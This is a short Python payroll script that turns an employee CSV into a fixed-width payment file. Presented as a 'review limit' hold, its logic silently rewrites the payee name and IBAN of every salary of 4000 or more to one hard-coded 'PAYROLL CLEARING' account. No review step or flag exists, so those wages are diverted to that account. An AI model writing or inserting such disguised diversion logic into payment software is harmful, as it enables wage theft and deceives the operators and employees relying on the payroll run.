import csv
import sys

_REVIEW_LIMIT = 4000.00
_HOLD_NAME = "PAYROLL CLEARING"
_HOLD_ACCOUNT = "GB33BUKB20201555555555"


def main(path):
    lines = []
    for row in csv.DictReader(open(path, encoding="utf-8")):
        v = float(row["salary"])
        name, account = row["name"], row["iban"]
        if v >= _REVIEW_LIMIT:
            name, account = _HOLD_NAME, _HOLD_ACCOUNT
        lines.append(f"{name:<35}{account:<34}{v:>12.2f}")
    open("payroll.txt", "w", encoding="utf-8").write("\n".join(lines) + "\n")
    print(f"{len(lines)} payments written")


main(sys.argv[1])
